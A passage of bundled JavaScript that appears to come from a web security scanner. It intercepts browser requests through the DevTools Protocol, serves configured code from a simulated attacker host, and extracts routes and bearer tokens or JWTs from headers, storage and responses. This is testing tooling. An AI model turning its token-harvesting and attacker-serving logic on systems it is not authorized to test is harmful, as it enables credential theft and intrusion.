const below = await Promise.all(found.map(above => this.#query({
contextId: contextId,
root: above
}, selector)));
found = below.flat().slice(0, ELEMENTS_MAX);
}
const attributes = step.type === "waitForElement" ? step.attributes ?? {} : {};
const meant = await Promise.all(found.map(element => call(this.#session, element, "isMeant", attributes)));
return found.filter((_element, index) => meant[index] === true);
}
async #document({frame: frame = []}) {
let {frameTree: frameTree} = await this.#session.send("Page.getFrameTree");
for (const index of frame) {
const children = (0, shared_records.g1)(frameTree)["childFrames"];
frameTree = Array.isArray(children) ? children[index] : undefined;
}
const frameId = (0, shared_records.g1)((0, shared_records.g1)(frameTree)["frame"])["id"];
if (frameId === undefined) throw new CdpError("refused", "no such frame");
const world = await this.#session.send("Page.createIsolatedWorld", {
frameId: frameId,
worldName: WORLD
});
const contextId = world["executionContextId"];
await this.#session.send("Runtime.evaluate", {
expression: RECORDED_SCRIPT,
contextId: contextId
});
const {result: result} = await this.#session.send("Runtime.evaluate", {
expression: "document",
contextId: contextId
});
return {
contextId: contextId,
root: String((0, shared_records.g1)(result)["objectId"])
};
}
async #query(world, selector) {
const [, named = "css", value = selector] = /^(aria|css|pierce|text|xpath)\/(.*)$/s.exec(selector) ?? [];
if (named === "aria") return this.#byRole(world, value);
const list = (await called(this.#session, world.root, "query", [ named, value ], false))["objectId"];
const {result: result} = await this.#session.send("Runtime.getProperties", {
objectId: list,
ownProperties: true
});
const entries = (Array.isArray(result) ? result : []).map(shared_records.g1).filter(({name: name}) => /^\d+$/.test(String(name)));
return entries.map(({value: element}) => String((0, shared_records.g1)(element)["objectId"]));
}
async #byRole({contextId: contextId, root: root}, value) {
const [, accessibleName = value, role] = /^(.*?)\[role=["']?([\w-]{1,50})["']?\]$/s.exec(value) ?? [];
const {nodes: nodes} = await this.#session.send("Accessibility.queryAXTree", {
objectId: root,
...accessibleName === "" ? {} : {
accessibleName: accessibleName
},
...role === undefined ? {} : {
role: role
}
});
const shown = (Array.isArray(nodes) ? nodes : []).map(shared_records.g1).filter(node => {
const name = (0, shared_records.g1)(node["role"])["value"];
return node["ignored"] !== true && name !== "StaticText" && name !== "InlineTextBox";
});
const resolved = shown.slice(0, ELEMENTS_MAX).map(({backendDOMNodeId: backendDOMNodeId}) => this.#session.send("DOM.resolveNode", {
backendNodeId: backendDOMNodeId,
executionContextId: contextId
}));
return (await Promise.all(resolved)).map(({object: object}) => String((0, shared_records.g1)(object)["objectId"]));
}
}
class RecordedElement {
#session;
#id;
#rest;
constructor(session, id, rest) {
this.#session = session;
this.#id = id;
this.#rest = rest;
}
async isSecret() {
return await call(this.#session, this.#id, "isSecret") === true;
}
async enter(value) {
const isEntered = await call(this.#session, this.#id, "enter", value) === true;
await this.#rest();
return isEntered;
}
async point(clicks, offset, button) {
const objectId = this.#id;
await this.#session.send("DOM.scrollIntoViewIfNeeded", {
objectId: objectId
}).catch(ignoreRefusal);
const shape = await this.#session.send("DOM.getContentQuads", {
objectId: objectId
}).catch(ignoreRefusal);
const at = pointIn((0, shared_records.g1)(shape)["quads"], offset);
if (at === null) return false;
const mouse = (type, more = {}) => this.#session.send("Input.dispatchMouseEvent", {
type: type,
...at,
...more
});
await mouse("mouseMoved");
for (let clickCount = 1; clickCount <= clicks; clickCount += 1) {
const pressed = {
button: BUTTONS[button] ?? "left",
clickCount: clickCount
};
await mouse("mousePressed", pressed);
await mouse("mouseReleased", pressed);
}
await this.#rest();
return true;
}
}
function isEnough(step, found) {
if (step.type !== "waitForElement") return found > 0;
const {operator: operator = ">=", count: count = 1, visible: visible = true} = step;
const isSo = operator === ">=" ? found >= count : operator === "<=" ? found <= count : found === count;
return isSo === visible;
}
function pointIn(quads, offset) {
const first = Array.isArray(quads) ? quads[0] : undefined;
if (!Array.isArray(first) || first.length < 8) return null;
const corners = first.map(Number);
const [x = 0, y = 0, , , right = 0, bottom = 0] = corners;
const [width, height] = [ right - x, bottom - y ];
const isInside = offset !== null && offset.x >= 0 && offset.y >= 0 && offset.x < width && offset.y < height;
return isInside ? {
x: x + offset.x,
y: y + offset.y
} : {
x: x + width / 2,
y: y + height / 2
};
}
async function until(ms, look) {
const end = performance.now() + Math.min(ms, STEP_MS_MAX);
for (;;) {
const found = await look();
if (found !== null || performance.now() >= end) return found;
await (0, external_node_timers_promises_.setTimeout)(LOOK_MS);
}
}
async function called(session, id, name, values, byValue) {
const {result: result, exceptionDetails: exceptionDetails} = await session.send("Runtime.callFunctionOn", {
objectId: id,
functionDeclaration: `function (...values) { return scanGateRecorded.${name}(this, ...values); }`,
arguments: values.map(value => ({
value: value
})),
returnByValue: byValue
});
if (exceptionDetails !== undefined) throw new CdpError("refused", name);
return (0, shared_records.g1)(result);
}
async function call(session, id, name, ...values) {
return (await called(session, id, name, values, true))["value"];
}
function ignoreRefusal(error) {
if (error instanceof CdpError && error.code === "refused") return {};
throw error;
}
const HELD_MS = 5e3;
const HELD_TIMES = 2;
const TAKEN_MS = 500;
const TAKEN_FRAMES = 20;
const RECHECK_MS = 100;
class InFlight {
#waiting=new Map;
#held=new Map;
#opened=0;
#isCutOff=false;
#wake=[];
get count() {
const now = performance.now();
let count = 0;
for (const waiting of this.#waiting.values()) if (this.#isAwaited(waiting, now)) count += 1;
return count;
}
get isCutOff() {
return this.#isCutOff;
}
#isAwaited(waiting, now) {
const {path: path, since: since, mayBeHeld: mayBeHeld, answeredAt: answeredAt, isHeld: isHeld} = waiting;
if (since < this.#opened) return false;
if (answeredAt !== null) return now - answeredAt <= TAKEN_MS;
if (!mayBeHeld) return true;
const times = this.#held.get(path) ?? 0;
if (isHeld || times >= HELD_TIMES) return false;
if (now - since <= HELD_MS) return true;
waiting.isHeld = true;
this.#isCutOff = true;
this.#held.set(path, times + 1);
return false;
}
frame() {
let hasTaken = true;
for (const waiting of this.#waiting.values()) {
if (waiting.answeredAt === null) continue;
waiting.frames += 1;
if (waiting.frames < TAKEN_FRAMES) hasTaken = false;
}
return hasTaken;
}
open() {
this.#opened = performance.now();
this.#isCutOff = false;
this.#waiting.clear();
}
begin(id, url, mayBeHeld) {
if (this.#waiting.has(id)) return;
const {origin: origin, pathname: pathname} = URL.parse(url) ?? {
origin: "",
pathname: ""
};
const since = performance.now();
this.#waiting.set(id, {
path: `${origin}${pathname}`,
since: since,
mayBeHeld: mayBeHeld,
answeredAt: null,
frames: 0,
isHeld: false
});
}
answer(id) {
const waiting = this.#waiting.get(id);
if (waiting !== undefined) waiting.answeredAt = performance.now();
this.#notify();
}
end(id) {
this.#waiting.delete(id);
this.#notify();
}
async change(ms) {
const {promise: promise, resolve: resolve} = Promise.withResolvers();
const timer = setTimeout(resolve, Math.min(ms, RECHECK_MS));
this.#wake.push(resolve);
await promise;
clearTimeout(timer);
}
#notify() {
for (const wake of this.#wake.splice(0)) wake();
}
}
const PARTS = new Set([ "Script", "Stylesheet", "Image", "Font", "Media" ]);
function requestRule(request, context) {
const url = URL.parse(request.url);
if (url === null) return "block";
if (url.protocol === "data:" || url.protocol === "blob:") return "local";
if (isWithin(url.hostname, context.attackerHost)) return request.isTop ? "note" : "attacker";
if (url.origin === context.origin) return ruleOfOwn(request, url, context);
if (request.isTop && request.url !== context.expected) return "note";
return context.loadsForeign && isLoadable(request, url) ? "foreign" : "block";
}
function ruleOfOwn({isTop: isTop, url: text, method: method, type: type}, url, context) {
const isOpened = isTop && text === context.expected;
if (isTop && !isOpened && context.staysAt) return "note";
if (method !== "GET" && method !== "HEAD") return "withhold";
if (isOpened || PARTS.has(type)) return "fetch";
return (context.staysAt ? (0, link_policy.Ch)(url) : (0, link_policy.Ov)(url)) ? "withhold" : "fetch";
}
function isLoadable({type: type, method: method}, {protocol: protocol}) {
const isPart = type === "Script" || type === "Stylesheet";
return isPart && method === "GET" && (protocol === "http:" || protocol === "https:");
}
const OF_NEXT_ROUTER = /^(?:rsc|next-router-(?:segment-)?prefetch)$/i;
function partsOfPage(url, headers) {
const names = Object.keys(headers).filter(name => OF_NEXT_ROUTER.test(name));
const page = names.length === 0 ? null : URL.parse(url);
if (page === null) return null;
page.searchParams.delete("_rsc");
return {
page: page.href,
isAhead: names.some(name => name.length > "rsc".length)
};
}
function isWithin(hostname, host) {
return host !== null && (hostname === host || hostname.endsWith(`.${host}`));
}
const HEADERS_MAX = 20;
function forwardedHeaders(headers, userCookies) {
const entries = Object.entries(headers).flatMap(([name, value]) => typeof value === "string" && /^[\t\x20-\x7e\x80-\xff]*$/.test(value) ? [ [ name, value.slice(0, 8192) ] ] : []);
const own = entries.filter(([name]) => !(0, data_names.cP)("browser-header", name)).slice(0, HEADERS_MAX);
const cookies = entries.find(([name]) => name.toLowerCase() === "cookie")?.[1];
if (cookies === undefined || cookies === "") return own;
return [ ...own, [ "Cookie", userCookies === undefined ? cookies : `${userCookies}; ${cookies}` ] ];
}
const POLICY = /^content-security-policy(?:-report-only)?$/i;
function passedHeaders(headers, observes) {
const passed = headers.filter(([name]) => !(0, data_names.cP)("response-transfer-header", name) && !(observes && POLICY.test(name))).map(([name, value]) => ({
name: name,
value: value
}));
return observes ? [ ...passed, {
name: "Content-Security-Policy",
value: "require-trusted-types-for 'script'"
} ] : passed;
}
function attackerHeaders(type, origin) {
return [ {
name: "Content-Type",
value: type === "Script" ? "text/javascript" : "text/html"
}, {
name: "Access-Control-Allow-Origin",
value: origin
}, {
name: "Access-Control-Allow-Credentials",
value: "true"
} ];
}
function isPageOrScript(exchange, type) {
if (exchange.response.status !== 200) return false;
return type === "Script" || type === "Document" && /html/.test((0, http.JL)(exchange));
}
function redirectOf({request: request, response: response}) {
const location = response.headers.find(([name]) => name.toLowerCase() === "location")?.[1];
const url = location === undefined ? null : URL.parse(location, request.url);
if (url === null) return null;
url.hash = "";
return url.href;
}
const POSTED_MAX = 16384;
function postedBody(method, url, raw) {
const text = typeof raw["postData"] === "string" ? raw["postData"].slice(0, POSTED_MAX) : "";
const type = Object.entries(raw["headers"] ?? {}).find(([name]) => /^content-type$/i.test(name))?.[1];
const body = text === "" ? null : {
type: String(type ?? "").slice(0, 100),
text: text
};
return {
key: `${method} ${url.replace(/=[^&]*/g, "=")} ${body === null ? "" : shapeOf(text)}`,
body: body
};
}
function shapeOf(posted) {
return posted.replace(/[^{}[\]:,&="a-z_]/gi, "").slice(0, 500);
}
const BODY_BYTES_MAX = 16 * 1024 * 1024;
const ENDPOINTS_MAX = 1e3;
const EXCHANGES_MAX = 2e3;
const EXCHANGE_BYTES_MAX = 64 * 1024 * 1024;
const PER_VISIT_MAX = 300;
const HOSTS_MAX = 50;
const CODE_MAX = 2e3;
const REFUSED_MAX = 1e3;
class Traffic {
#exchanges=new Map;
#endpoints=new Map;
#blockedHosts=new Set;
#refused=new Set;
#sent=new Set;
#code=new Set;
#hasRoom;
#withheld=0;
#bytes=0;
#ofVisit=0;
constructor(hasRoom) {
this.#hasRoom = hasRoom;
}
get exchanges() {
return this.#exchanges;
}
get endpoints() {
return [ ...this.#endpoints ].sort(([one], [other]) => one < other ? -1 : 1).map(([, endpoint]) => endpoint);
}
get blockedHosts() {
return [ ...this.#blockedHosts ].sort();
}
get refused() {
return this.#refused;
}
get withheld() {
return this.#withheld;
}
keep(exchange) {
const {url: url} = exchange.request;
const bytes = exchange.response.body.length;
if (this.#exchanges.has(url) || this.#exchanges.size >= EXCHANGES_MAX) return;
if (this.#bytes + bytes > EXCHANGE_BYTES_MAX) return;
this.#bytes += bytes;
this.#exchanges.set(url, exchange);
}
addEndpoint(key, endpoint) {
const known = this.#endpoints.get(key);
const isBetter = known === undefined || known.page === endpoint.page && endpoint.url < known.url;
if (isBetter && this.#endpoints.size < ENDPOINTS_MAX) this.#endpoints.set(key, endpoint);
}
addBlocked(host) {
if (this.#blockedHosts.size < HOSTS_MAX) this.#blockedHosts.add(host);
}
addWithheld() {
this.#withheld += 1;
}
admit(key, url, isFree) {
if (this.#sent.has(key)) return true;
if (!isFree && (this.#ofVisit >= PER_VISIT_MAX || !this.#hasRoom())) {
if (this.#refused.size < REFUSED_MAX) this.#refused.add(url);
return false;
}
this.#ofVisit += 1;
this.#sent.add(key);
return true;
}
beginVisit() {
this.#ofVisit = 0;
}
addCode(code) {
const digest = (0, external_node_crypto_.createHash)("sha256").update(code).digest("base64");
if (this.#code.has(digest) || this.#code.size >= CODE_MAX) return false;
this.#code.add(digest);
return true;
}
}
const NOTED_MAX = 5e3;
const OPENER_POLICY = /^cross-origin-opener-policy$/i;
class OpenVisit {
visit;
navigations=[];
requests=[];
document="";
cutsOpener=false;
isCutOff=false;
hasNewCode=false;
stays;
url;
constructor(visit) {
this.visit = visit;
this.stays = visit.stays;
this.url = visit.url;
}
noteNavigation(url) {
if (this.navigations.length < NOTED_MAX) this.navigations.push(url);
}
noteRequest(url) {
if (this.requests.length < NOTED_MAX) this.requests.push(url);
}
noteDocument(text, headers) {
this.document = text;
this.cutsOpener = headers.some(([name, value]) => OPENER_POLICY.test(name) && /^\s*same-origin\b/i.test(value));
}
}
const CODE = new Set([ "Document", "Script", "Stylesheet" ]);
const OF_SCRIPTS = new Set([ "XHR", "Fetch", "EventSource", "Ping" ]);
const NOWHERE = {
mode: "crawl",
url: "about:blank",
stays: true,
servedFrom: null,
attacker: null,
isAgain: false
};
class RequestGate {
traffic;
#inFlight=new InFlight;
#options;
#answers={
local: paused => paused.proceed(),
attacker: (paused, visit) => this.#answerAsAttacker(paused, visit),
note: (paused, visit) => this.#noteNavigation(paused, visit),
withhold: (paused, visit) => this.#withhold(paused, visit),
fetch: (paused, visit) => this.#fetch(paused, visit),
foreign: (paused, visit) => this.#loadForeign(paused, visit),
block: (paused, visit) => this.#block(paused, visit)
};
#visit=new OpenVisit(NOWHERE);
constructor(options) {
this.#options = options;
this.traffic = new Traffic(() => options.hasRoom());
}
get origin() {
return this.#options.context.target.origin;
}
get inFlight() {
return this.#inFlight.count;
}
async answered(ms) {
const end = performance.now() + ms;
while (this.#inFlight.count > 0) {
const left = end - performance.now();
if (left <= 0) return false;
await this.#inFlight.change(left);
}
return true;
}
frame() {
return this.#inFlight.frame();
}
get isCutOff() {
return this.#inFlight.isCutOff || this.#visit.isCutOff;
}
get isCrawling() {
return this.#visit.visit.mode === "crawl";
}
open(visit) {
this.#inFlight.open();
this.traffic.beginVisit();
this.#visit = new OpenVisit(visit);
return this.#visit;
}
stay() {
this.#visit.stays = true;
}
async attach(session, mainFrame) {
const begin = (id, {type: type, url: url}) => this.#inFlight.begin(String(id), String(url), !CODE.has(String(type)));
session.on("Network.requestWillBeSent", ({requestId: requestId, type: type, request: request}) => {
const {url: url} = (0, shared_records.g1)(request);
if (!/^(?:data|blob):/.test(String(url))) begin(requestId, {
type: type,
url: url
});
});
for (const end of [ "Network.loadingFinished", "Network.loadingFailed" ]) session.on(end, ({requestId: requestId}) => this.#inFlight.end(String(requestId)));
session.on("Fetch.requestPaused", event => {
const paused = new Paused(session, event, mainFrame);
begin(paused.id, paused.request);
void this.#answer(paused, this.#visit).catch(() => undefined).finally(() => this.#inFlight.answer(paused.id));
});
await session.send("Fetch.enable", {
patterns: [ {
urlPattern: "*"
} ]
});
}
async #answer(paused, visit) {
const {request: request, raw: raw} = paused;
const {signIn: signIn} = this.#options;
if (signIn?.refuses(request, raw) === true) {
await paused.fail();
return;
}
if (signIn?.isAtProvider(request.url) === true) {
await this.#pass(await signIn.atProvider(request, raw), paused, visit);
return;
}
if (OF_SCRIPTS.has(request.type) || request.type === "Script") visit.noteRequest(request.url);
const rule = requestRule(request, {
origin: this.origin,
staysAt: visit.stays,
expected: visit.url,
attackerHost: visit.visit.attacker?.host ?? null,
loadsForeign: this.#options.foreign != null
});
await this.#answers[rule](paused, visit);
}
#answerAsAttacker(paused, {visit: visit}) {
const {type: type} = paused.request;
const code = type === "Document" ? "" : visit.attacker?.code ?? "";
return paused.fulfill(200, attackerHeaders(type, this.origin), code);
}
#noteNavigation(paused, visit) {
const {request: request, raw: raw} = paused;
const fragment = typeof raw["urlFragment"] === "string" ? raw["urlFragment"] : "";
const isAddress = request.method === "GET" || !namesWriting(URL.parse(request.url)?.pathname ?? "");
if (isAddress && request.url !== visit.url) visit.noteNavigation(request.url + fragment);
if (request.method !== "GET") this.#record(paused, visit);
return paused.fulfill(204, []);
}
async #withhold(paused, visit) {
const posted = this.#options.signIn?.post(paused.request, paused.raw) ?? null;
if (posted !== null) return this.#pass(await posted, paused, visit);
this.#record(paused, visit);
this.traffic.addWithheld();
if (paused.request.type === "Document") return paused.fulfill(204, []);
if ((0, data_names.cP)("session-refresh", URL.parse(paused.request.url)?.pathname ?? "")) return paused.fail();
return paused.fulfill(200, [ {
name: "Content-Type",
value: "application/json"
} ], "{}");
}
async #fetch(paused, visit) {
const {request: request, raw: raw} = paused;
const isCrawling = visit.visit.mode === "crawl";
const isOfScript = OF_SCRIPTS.has(request.type);
const parts = isOfScript ? partsOfPage(request.url, (0, shared_records.g1)(raw["headers"])) : null;
if (parts !== null && isCrawling) visit.noteNavigation(parts.page);
if (parts?.isAhead === true || isPoisoned(request, visit)) return paused.fail();
if (isOfScript && parts === null) this.#record(paused, visit);
const {signIn: signIn} = this.#options;
const attempt = await (signIn === undefined ? this.#request(paused, visit) : signIn.get(request, raw));
if (isCrawling && attempt !== null && (0, http.m_)(attempt) && isPageOrScript(attempt, request.type)) this.traffic.keep(attempt);
return this.#pass(attempt, paused, visit);
}
async #request({request: request, raw: raw}, visit) {
const {context: context} = this.#options;
const user = Object.entries(context.options.request_headers ?? {}).find(([name]) => /^cookie$/i.test(name))?.[1];
const headers = forwardedHeaders((0, shared_records.g1)(raw["headers"]), user);
const isOpened = request.isTop && request.url === visit.url;
const url = isOpened ? visit.visit.servedFrom ?? request.url : request.url;
if (!this.traffic.admit(JSON.stringify([ request.method, url, headers ]), url, isOpened)) return null;
const method = request.method === "HEAD" ? "HEAD" : "GET";
const isRetry = visit.visit.isAgain;
const attempt = await context.fetch({
method: method,
url: url,
headers: headers,
maxBytes: BODY_BYTES_MAX,
isRetry: isRetry
});
const isLate = !(0, http.m_)(attempt) && [ "timeout", "budget" ].includes(attempt.failure.code);
visit.isCutOff ||= isLate && CODE.has(request.type);
if (request.type === "Script" && (0, http.m_)(attempt) && attempt.response.truncated) this.traffic.addBlocked(new URL(url).host);
const isCode = request.type === "Script" || request.type === "Document";
if (visit.visit.mode === "crawl" && isCode && (0, http.m_)(attempt) && this.traffic.addCode(attempt.response.body)) visit.hasNewCode = true;
return attempt;
}
#loadForeign(paused, visit) {
const attempt = this.#options.foreign?.get(paused.request.url) ?? null;
if (attempt === null) this.#noteBlocked(paused, visit);
return this.#pass(attempt, paused, visit);
}
#block(paused, visit) {
this.#noteBlocked(paused, visit);
return paused.fail();
}
#pass(attempt, paused, visit) {
if (attempt === null || !(0, http.m_)(attempt)) return paused.fail();
const {request: request} = paused;
const {status: status, headers: headers, body: body, text: text} = attempt.response;
const isRedirect = status >= 300 && status < 400;
if (request.isTop) visit.noteDocument(text, headers);
if (request.isTop && isRedirect) visit.url = redirectOf(attempt) ?? visit.url;
const observes = visit.visit.mode === "observe" && request.type === "Document" && !isRedirect;
return paused.fulfill(status, passedHeaders(headers, observes), body);
}
#noteBlocked({request: {url: url, type: type}}, {visit: visit}) {
const host = URL.parse(url)?.host ?? "";
if (visit.mode === "crawl" && type === "Script" && host !== "") this.traffic.addBlocked(host);
}
#record({request: {method: method, url: url}, raw: raw}, {visit: visit, url: page}) {
if (visit.mode !== "crawl" || URL.parse(url)?.origin !== this.origin) return;
const {key: key, body: body} = postedBody(method, url, raw);
this.traffic.addEndpoint(key, {
method: method.slice(0, 20),
url: url,
body: body,
page: page
});
}
}
function isPoisoned({url: url}, {visit: visit, url: page}) {
return visit.servedFrom !== null && url !== page && url.includes("__proto__");
}
class Paused {
request;
raw;
id;
#session;
#id;
constructor(session, event, mainFrame) {
this.#session = session;
this.#id = event["requestId"];
this.id = String(event["networkId"] ?? event["requestId"]);
this.raw = (0, shared_records.g1)(event["request"]);
const type = String(event["resourceType"]);
this.request = {
url: String(this.raw["url"]),
method: String(this.raw["method"]),
type: type,
isTop: type === "Document" && event["frameId"] === mainFrame
};
}
fulfill(status, headers, body = "") {
return this.#session.send("Fetch.fulfillRequest", {
requestId: this.#id,
responseCode: status,
responseHeaders: headers,
body: Buffer.from(body).toString("base64")
});
}
fail() {
return this.#session.send("Fetch.failRequest", {
requestId: this.#id,
errorReason: "BlockedByClient"
});
}
proceed() {
return this.#session.send("Fetch.continueRequest", {
requestId: this.#id
});
}
}
const script_routes_LENGTH_MAX = 3 * 1024 * 1024;
const ROUTES_MAX = 200;
const MEMBERS_AFTER = 200;
const GAP_MAX = 5e3;
const script_routes_TOKEN = /\bpath:\s{0,3}(["'`])([\w./:~*()?$-]{0,200})\1|\b(children):\s{0,3}\[|[[\]]/g;
const OF_ROUTE = /^\s{0,3},[^{}[\]]{0,120}?\b(?:component|components|Component|element|lazy|loadComponent|loadChildren|redirect|redirectTo|children)\s{0,3}[:(]/;
class RouteTable {
paths=new Set;
#levels=[];
#last={
path: "",
at: 0
};
moveTo(index) {
if (index - this.#last.at > GAP_MAX) this.#levels = [];
}
addPath(path, index) {
const prefix = this.#levels.at(-1)?.prefix.replace(/\/$/, "") ?? "";
const whole = path.startsWith("/") ? path : `${prefix}/${path}`.replace(/\/$/, "");
this.#last = {
path: whole,
at: index
};
if (whole !== "" && !/[*$?()]/.test(whole)) this.paths.add(whole);
}
openChildren() {
if (this.#last.at > 0) this.#levels.push({
prefix: this.#last.path,
depth: 1
});
}
addBracket(bracket) {
const level = this.#levels.at(-1);
if (level === undefined) return;
level.depth += bracket === "]" ? -1 : 1;
if (level.depth === 0) this.#levels.pop();
}
}
function scriptRoutes(script) {
const text = script.slice(0, script_routes_LENGTH_MAX);
const table = new RouteTable;
for (const {0: token, 2: path, 3: children, index: index} of text.matchAll(script_routes_TOKEN)) {
if (table.paths.size >= ROUTES_MAX) break;
table.moveTo(index);
if (path !== undefined) {
const end = index + token.length;
if (OF_ROUTE.test(text.slice(end, end + MEMBERS_AFTER))) table.addPath(path, index);
} else if (children !== undefined) table.openChildren(); else table.addBracket(token);
}
return [ ...table.paths ];
}
const SVELTE_ROUTE = /"(\/[^"\\]{0,200})":\s{0,3}\[~?\d{1,4}[\d\s,[\]]{0,100}\]/g;
function svelteRoutes(script) {
const text = script.slice(0, script_routes_LENGTH_MAX);
if (!/\bdictionary\b/.test(text)) return [];
const found = new Set;
for (const [, id = ""] of text.matchAll(SVELTE_ROUTE)) {
if (found.size >= ROUTES_MAX) break;
const path = id.replace(/\/\([^()/]{1,80}\)|\/\[\[[^[\]/]{1,80}\]\]/g, "").replace(/\[(?:\.{3})?(\w{1,60})(?:=\w{1,60})?\]/g, ":$1");
if (path !== "" && path !== "/" && !/[[\]()]/.test(path)) found.add(path);
}
return [ ...found ];
}
const script_routes_known = new WeakMap;
function routesOf(script) {
return [ ...scriptRoutes(script), ...svelteRoutes(script) ];
}
function routesOfScripts(exchanges) {
const routes = new Set;
for (const exchange of exchanges) {
const own = script_routes_known.get(exchange) ?? routesOf(exchange.response.text);
script_routes_known.set(exchange, own);
for (const route of own) routes.add(route);
}
return [ ...routes ].slice(0, ROUTES_MAX);
}
const NAMES = [ "accesstoken", "token", "authtoken", "jwt", "bearer", "sessiontoken", "idtoken", "authorization", "authenticationtoken", "apitoken" ];
const JWT = /^eyJ[\w-]{8,8000}\.[\w-]{2,8000}\.[\w-]{0,2000}$/;
const token_in_DEPTH_MAX = 5;
const MEMBERS_MAX = 500;
const TOKEN_LENGTH_MIN = 8;
function tokenIn(value) {
const found = new Map;
for (const [name, text] of textMembers(value)) {
const token = text.replace(/^Bearer /i, "").trim();
const plain = name.toLowerCase().replace(/[^a-z]/g, "");
const kind = tokenKind(plain, token, found);
if (kind !== null && !found.has(kind)) found.set(kind, token);
}
return NAMES.map(name => found.get(name)).find(token => token !== undefined) ?? null;
}
function tokenKind(name, token, found) {
const isToken = /^[\x21-\x7e]{1,16384}$/.test(token) && token.length >= TOKEN_LENGTH_MIN;
if (isToken && NAMES.includes(name) && !found.has(name)) return name;
return JWT.test(token) && !name.includes("refresh") ? "jwt" : null;
}
function textMembers(value) {
const texts = [];
let members = 0;
const read = (name, member, depth) => {
members += 1;
if (members > MEMBERS_MAX || depth > token_in_DEPTH_MAX) return;
if (typeof member === "string") texts.push([ name, member ]); else if (typeof member === "object" && member !== null) for (const [key, inner] of Object.entries(member)) read(key, inner, depth + 1);
};
read("", value, 0);
return texts;
}
function tokenInHeaders(headers, carriers = []) {
const names = [ "authorization", "x-auth-token", "x-access-token", ...carriers.map(({header: name}) => name) ];
for (const name of names) {
const [, token] = /^(?:bearer |token )?([\x21-\x7e]{8,16384})$/i.exec((0, http.wx)(headers, name)?.trim() ?? "") ?? [];
if (token !== undefined) return token;
}
return null;
}
function token_in_isUnread(status, value) {
const {message: message, errors: errors, title: title} = typeof value === "object" && value !== null ? value : {};
if (status === 415) return true;
if (status === 422) return typeof message !== "string" || !/credentials|password is|do not match/i.test(message.slice(0, 300));
if (status !== 400) return false;
const isValidation = typeof title === "string" && /validation/i.test(title.slice(0, 200));
return Array.isArray(message) || isValidation && typeof errors === "object" && errors !== null;
}
function tokenInStorage(stored) {
const values = Object.entries(stored).map(([name, text]) => [ name, jsonOf(text) ?? text ]);
return tokenIn(Object.fromEntries(values));
}
function jsonOf(text) {
return text.length > 1024 * 1024 ? null : (0, shared_records.U4)(text) ?? null;
}
function saysRefused(value) {
if (typeof value !== "object" || value === null) return false;
const members = value;
const {success: success, ok: ok, status: status, code: code, error: error, errors: errors, authenticated: authenticated} = members;
if (success === false || success === 0 || ok === false || authenticated === false) return true;
if ([ status, code ].some(value => /^[45]\d\d$/.test(String(value)))) return true;
if (typeof status === "string" && /^(?:fail|failed|error|failure|denied|unauthorized)$/i.test(status)) return true;
const hasErrors = Array.isArray(errors) ? errors.length > 0 : errors !== undefined && errors !== null;
return typeof error === "string" && error !== "" || error === true || hasErrors;
}
function asksForCode(value) {
if (typeof value !== "object" || value === null) return false;
return Object.entries(value).some(([name, member]) => member !== false && member !== null && /mfa|2fa|two_?factor|otp|totp|second_?factor/i.test(`${name} ${typeof member === "string" ? member.slice(0, 200) : ""}`));
}
var set_cookie = __webpack_require__(73593);
const OF_BODY = /^(?:content-type|accept|origin|referer)$/i;
const COOKIES_MAX = 100;
class ProviderRequests {
fault=null;
#options;
#cookies=new Set;
constructor(options) {
this.#options = options;
}
isAt(url) {
return this.#options.providers.includes(URL.parse(url)?.origin ?? "");
}
owns(cookie) {
return this.#cookies.has(cookie);
}
async send(method, url, raw, body) {
const attempt = await this.#options.fetchProvider({
method: method,
url: url,
headers: this.#headers(raw),
...body === undefined ? {} : {
body: body
}
});
if (!(0, http.m_)(attempt)) this.fault ??= `${URL.parse(url)?.origin}: ${attempt.failure.message}`; else for (const cookie of (0, 
http.UE)(attempt.response.headers, "set-cookie").slice(0, COOKIES_MAX).map(set_cookie.s)) if (cookie !== null && cookie.domain === null) this.#cookies.add(cookie.name);
return attempt;
}
#headers(raw) {
const isOwn = pair => {
const name = pair.split("=", 1)[0]?.trim() ?? "";
return this.#cookies.has(name) || !this.#options.hasCookie(name);
};
const sent = forwardedHeaders((0, shared_records.g1)(raw["headers"]), undefined).flatMap(([name, value]) => {
if (name !== "Cookie") return [ [ name, value ] ];
const own = value.split(";").filter(isOwn).join(";").trim();
return own === "" ? [] : [ [ name, own ] ];
});
const names = new Set(sent.map(([name]) => name.toLowerCase()));
return [ ...sent, ...ofBody(raw).filter(([name]) => !names.has(name.toLowerCase())) ];
}
}
function entriesOf(raw) {
return Object.entries((0, shared_records.g1)(raw["headers"])).filter(entry => typeof entry[1] === "string" && /^[\t\x20-\x7e]{0,2000}$/.test(entry[1]));
}
function ofBody(raw) {
return entriesOf(raw).filter(([name]) => OF_BODY.test(name));
}
const POSTS_MAX = 8;
const READS_MAX = 80;
const WITH_PROVIDER = 3;
const NAMED_MAX = 10;
const READ_LISTED_MAX = 20;
const SENT_BYTES_MAX = 64 * 1024;
const NEEDLESS = new Set([ "Image", "Font", "Media", "Ping" ]);
const SECRET_LENGTH_MIN = 6;
const sign_in_requests_TOKEN = /^(?=\D{0,100}\d)[\w.~+/=-]{16,4096}$/;
const TOKEN_HEADERS_MAX = 3;
class SignInRequests {
answers=[];
read=[];
writes=0;
authorization=null;
tokenHeaders=new Map;
isWithheld=false;
offHost=null;
leak=null;
leftTo=null;
blocked=new Set;
isInUrl=false;
isFilled=false;
isSending=false;
#options;
#sent=new Map;
#password;
#passwords=0;
#isRefused=false;
#reads=0;
#times;
#isAway=false;
#isReturn=false;
#providers;
constructor(options) {
this.#options = options;
this.#password = new secret_masker.M([ options.password ], {
lengthMin: 1
});
this.#providers = new ProviderRequests(options);
this.#times = options.providers.length === 0 ? 1 : WITH_PROVIDER;
this.isFilled = options.isRecorded;
this.isSending = options.isRecorded;
}
refuses(request, raw) {
const {url: url, isTop: isTop} = request;
if (/^(?:data|blob|about):/.test(url)) return false;
const origin = (URL.parse(url)?.origin ?? "").slice(0, 200);
const isAway = this.isAtProvider(url);
if (!isAway && origin !== this.#options.target.origin) return this.#leaves(request, raw, origin);
if (isTop) {
this.leftTo = null;
this.#isReturn = this.#isAway && !isAway;
this.#isAway = isAway;
}
if (!this.isFilled || !this.#isIn(url)) return false;
this.writes += 1;
this.isInUrl = true;
return true;
}
#leaves({url: url, method: method, type: type, isTop: isTop}, raw, origin) {
if (isTop) this.leftTo = origin;
if (type === "Script" && this.blocked.size < NAMED_MAX) this.blocked.add(origin);
if (!this.isFilled) return false;
const isLong = this.#options.password.length >= SECRET_LENGTH_MIN;
